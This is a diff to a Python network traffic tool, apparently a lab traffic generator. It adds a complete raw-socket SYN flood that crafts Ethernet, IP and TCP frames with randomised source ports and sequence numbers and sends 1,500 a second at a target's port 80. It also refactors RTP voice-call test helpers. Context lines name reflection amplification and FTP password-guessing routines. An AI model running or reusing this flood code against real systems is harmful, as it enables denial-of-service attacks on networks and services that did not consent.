@@ -7,7 +7,6 @@ import random
 import socket
 import struct
 import sys
-import threading
 import time
 
 # Libraries that only one action needs are imported there: two dozen interpreters start at once.
@@ -114,6 +113,31 @@ def amplify(server, count, *sources):
         sys.exit("the answers are not long")
 
 
+def checksum(octets):
+    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def syn_flood(source, target, mac, gateway_mac, count):
+    """SYNs as bots make them, past the kernel: another source port and sequence number each, 1500 a second."""
+    dice = random.Random(7)
+    addresses = socket.inet_aton(source) + socket.inet_aton(target)
+    ethernet = bytes.fromhex(gateway_mac.replace(":", "") + mac.replace(":", "")) + b"\x08\0"
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
+        s.bind(("line", 0))
+        start = time.monotonic()
+        for i in range(int(count)):
+            ip = struct.pack(">BBHHHBB", 0x45, 0, 40, dice.randrange(65536), 0, 64, 6)
+            ip += struct.pack(">H", checksum(ip + b"\0\0" + addresses)) + addresses
+            tcp = [1024 + dice.randrange(64000), 80, dice.randrange(1 << 32), 0, 0x5002, 65535, 0, 0]
+            tcp[6] = checksum(addresses + struct.pack(">HH", 6, 20) + struct.pack(">HHIIHHHH", *tcp))
+            s.send(ethernet + ip + struct.pack(">HHIIHHHH", *tcp))
+            if i % 50 == 49:
+                time.sleep(max(0.0, start + i / 1500 - time.monotonic()))
+
+
 def ftp_guess(server, connections):
     """Two wrong passwords a connection."""
     import ftplib
@@ -158,35 +182,32 @@ def inetd(port, *command):
                 pass
 
 
-def rtp_packets(s, to, seconds):
+def rtp_packet(i, stream):
     """G.711 voice: 160 octets each 20 ms (RFC 3551)."""
-    start = time.monotonic()
-    for i in range(int(float(seconds) * 50)):
-        s.sendto(struct.pack(">BBHII", 0x80, 0, i, i * 160, 0x1234) + bytes([0xd5] * 160), to)
-        time.sleep(max(0.0, start + (i + 1) * 0.02 - time.monotonic()))
+    return struct.pack(">BBHII", 0x80, 8, i & 0xffff, i * 160, stream) + bytes([0xd5] * 160)
 
 
 def rtp_call(address, port, seconds):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.connect((address, int(port)))
         s.settimeout(3)
-        sender = threading.Thread(target=rtp_packets, args=(s, (address, int(port)), seconds))
-        sender.start()
-        heard = 0
-        while sender.is_alive():
+        start, heard = time.monotonic(), 0
+        for i in range(int(seconds) * 50):
+            s.send(rtp_packet(i, 0x1234))
             heard += len(s.recv(2048)) == 172
-        sender.join()
+            time.sleep(max(0.0, start + (i + 1) * 0.02 - time.monotonic()))
     print("heard", heard, "packets")
 
 
 def rtp_answer(address, port):
-    """The other side of one call: talks to whoever talks to it, as long as they do."""
+    """The other side: as much voice as it hears."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.bind((address, int(port)))
+        spoken = 0
         while True:
-            s.settimeout(None)
             _, caller = s.recvfrom(2048)
-            threading.Thread(target=lambda: [s.recv(2048) for _ in iter(int, 1)], daemon=True).start()
-            rtp_packets(s, caller, 60)
+            s.sendto(rtp_packet(spoken, 0x5678), caller)
+            spoken += 1
 
 
 if __name__ == "__main__":
